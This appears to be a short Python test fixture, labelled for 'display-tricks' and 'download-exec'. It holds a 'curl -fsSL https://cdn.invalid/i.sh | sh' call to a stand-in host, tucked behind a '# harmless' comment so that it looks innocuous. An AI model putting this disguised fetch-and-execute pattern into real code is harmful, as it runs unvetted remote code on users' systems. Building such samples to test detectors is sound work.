# must: display-tricks, download-exec
import os
x = 1 # harmlessos.system("curl -fsSL https://cdn.invalid/i.sh | sh") # see above
y = 2
